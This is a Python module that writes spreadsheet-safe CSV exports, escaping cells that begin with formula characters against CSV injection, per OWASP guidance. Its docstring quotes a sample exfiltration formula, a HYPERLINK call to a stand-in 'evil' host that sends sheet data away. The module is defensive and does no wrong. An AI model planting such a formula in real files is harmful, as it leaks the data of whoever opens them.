"""Files people open in a spreadsheet: every CSV export is written here, with its text cells made inert.

Why: an area id, a category or a reporter (a token's subject) is text someone else chose. A cell whose
text starts with ``=``, ``+``, ``-`` or ``@`` is read by Excel, LibreOffice and Google Sheets as a
formula (``=HYPERLINK("http://evil/?"&A1, "click")`` sends the sheet's data away when clicked; DDE
formulas can run programs), and a leading tab or carriage return hides such a character from a
naive check. OWASP's rule (CSV Injection, owasp.org/www-community/attacks/CSV_Injection): prefix
such a cell with a single quote, which spreadsheets show as text and do not evaluate.

- ``csv_cell(value)``: a text value starting with one of ``FORMULA_STARTS`` gets a leading ``'``;
  numbers (``int``, ``float``: computed by gridcase, never a formula) and ``None`` (an empty cell) are
  written as they are, so ``-0.5`` stays a number a spreadsheet can add up.
- ``write_csv(columns, rows, header=None)``: the CSV text (RFC 4180: ``\\r\\n`` line ends, one header row,
  quoting as needed) of ``rows`` (dicts; missing keys are empty cells, extra keys ignored), every cell
  through ``csv_cell``; the header row is ``header`` (the columns' names for people) or the column keys.
- ``export_csv(columns, rows, header=None)``: the bytes of every CSV gridcase sends: ``write_csv``'s text in
  UTF-8 behind a byte-order mark. Excel opens a CSV without one in the machine's legacy code page (GBK on a
  Chinese Windows), so Chinese names read as mojibake; with it, Excel, WPS, LibreOffice and Numbers read
  UTF-8 (Python: ``open(..., encoding="utf-8-sig")``).
- ``hours(seconds)``: a duration for people, in hours as a decimal (``5400`` → ``1.5``).

Not ``defusedcsv`` (the package of this rule): it leaves a leading tab or carriage return alone and
rewrites ``|`` inside the text, which changes the data.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence

#: A text cell starting with one of these is a formula (or hides one) to a spreadsheet.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> object:
    """``value`` made safe to write as a CSV cell: text starting with ``FORMULA_STARTS`` gets a leading
    single quote; numbers, booleans and ``None`` are returned unchanged."""
    if value is None or isinstance(value, bool | int | float):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_csv(columns: Sequence[str], rows: Iterable[Mapping[str, object]],
              header: Sequence[str] | None = None) -> str:
    """The CSV text of ``rows`` under a header row (``header``, one name per column, or the ``columns``
    themselves), every cell through ``csv_cell``."""
    if header is not None and len(header) != len(columns):
        raise ValueError(f"{len(header)} names for {len(columns)} columns")
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([csv_cell(name) for name in (columns if header is None else header)])
    writer.writerows([csv_cell(row.get(name)) for name in columns] for row in rows)
    return out.getvalue()


BOM = "\ufeff"


def export_csv(columns: Sequence[str], rows: Iterable[Mapping[str, object]],
               header: Sequence[str] | None = None) -> bytes:
    """``write_csv``'s text as the bytes of a download: UTF-8 behind a byte-order mark (``EF BB BF``)."""
    return (BOM + write_csv(columns, rows, header)).encode("utf-8")


#: Decimal places of an hour kept by ``hours``: 6 (3.6 ms), so the hours times 3600 give the seconds back.
HOUR_DECIMALS = 6


def hours(seconds: float | None) -> float | None:
    """``seconds`` in hours, a decimal rounded to ``HOUR_DECIMALS`` places; None (no value) stays None."""
    return None if seconds is None else round(seconds / 3600, HOUR_DECIMALS)
